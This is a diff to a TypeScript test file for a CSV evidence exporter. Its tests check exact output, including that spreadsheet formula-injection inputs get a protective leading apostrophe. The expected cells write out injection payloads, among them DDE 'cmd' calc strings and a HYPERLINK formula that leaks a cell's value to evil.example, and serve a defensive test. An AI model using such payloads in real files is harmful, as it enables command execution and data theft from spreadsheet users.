@@ -11,50 +11,18 @@ const LABELS = {
   reason: '原因',
 };
 
-/** A plain RFC 4180 reader for the test: quoted fields may hold commas, quotes and line breaks. */
-function parseCsv(text: string): string[][] {
-  const records: string[][] = [];
-  let cells: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        cell += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      cells.push(cell);
-      cell = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      records.push([...cells, cell]);
-      cells = [];
-      cell = '';
-      i++;
-    } else cell += c;
-  }
-  return records;
-}
-
 describe('evidence CSV', () => {
   test('quotes commas, quotes and newlines; missing values are empty', () => {
-    const csv = toCsv(
-      ['a', 'b'],
-      [
-        ['x,y', 'say "hi"'],
-        [null, 3],
-        ['two\nlines', true],
-      ],
-    );
-    expect(parseCsv(csv.slice(1))).toEqual([
-      ['a', 'b'],
-      ['x,y', 'say "hi"'],
-      ['', '3'],
-      ['two\nlines', 'true'],
-    ]);
+    expect(
+      toCsv(
+        ['a', 'b'],
+        [
+          ['x,y', 'say "hi"'],
+          [null, 3],
+          ['two\nlines', true],
+        ],
+      ),
+    ).toBe('\uFEFFa,b\r\n"x,y","say ""hi"""\r\n,3\r\n"two\nlines",true\r\n');
   });
 
   test('BOM, header with field columns in first-seen order, one line per record', () => {
@@ -100,22 +68,28 @@ describe('evidence CSV', () => {
       date: '2023-03-01',
       countedAgainst: true,
       reasonCode: 'evidence/incident',
-      reason: text,
+      reason: '安全事件',
       fields: [{ name: 'description', value: text }],
     }));
-    const records = parseCsv(evidenceCsv(rows, LABELS).slice(1));
-    expect(records.slice(1).map((cells) => [cells[5], cells[6]])).toEqual(
-      FORMULA_INJECTION_SAMPLES.map((text) => [`'${text}`, `'${text}`]),
+    // Each description cell, written out by hand: a leading apostrophe, then RFC 4180 quoting where needed.
+    const cells = [
+      `'=cmd|' /C calc'!A0`,
+      `"'+1+cmd|"" /C calc""!A0"`,
+      `"'-2+3+cmd|"" /C calc""!A0"`,
+      `'@SUM(1+1)*cmd|' /C calc'!A0`,
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
+      `'\t=1+1`,
+      `"'\r=1+1"`,
+    ];
+    expect(cells).toHaveLength(FORMULA_INJECTION_SAMPLES.length);
+    expect(evidenceCsv(rows, LABELS)).toBe(
+      `\uFEFF记录,类型,日期,计入失分,原因代码,原因,description\r\n${cells
+        .map((cell, i) => `INC-${i},incident,2023-03-01,1,evidence/incident,安全事件,${cell}\r\n`)
+        .join('')}`,
     );
   });
 
   test('numbers stay numbers, negative ones too', () => {
-    expect(parseCsv(toCsv(['v'], [[-3], [-0.25], [0], [1]]).slice(1))).toEqual([
-      ['v'],
-      ['-3'],
-      ['-0.25'],
-      ['0'],
-      ['1'],
-    ]);
+    expect(toCsv(['v'], [[-3], [-0.25], [0], [1]])).toBe('\uFEFFv\r\n-3\r\n-0.25\r\n0\r\n1\r\n');
   });
 });
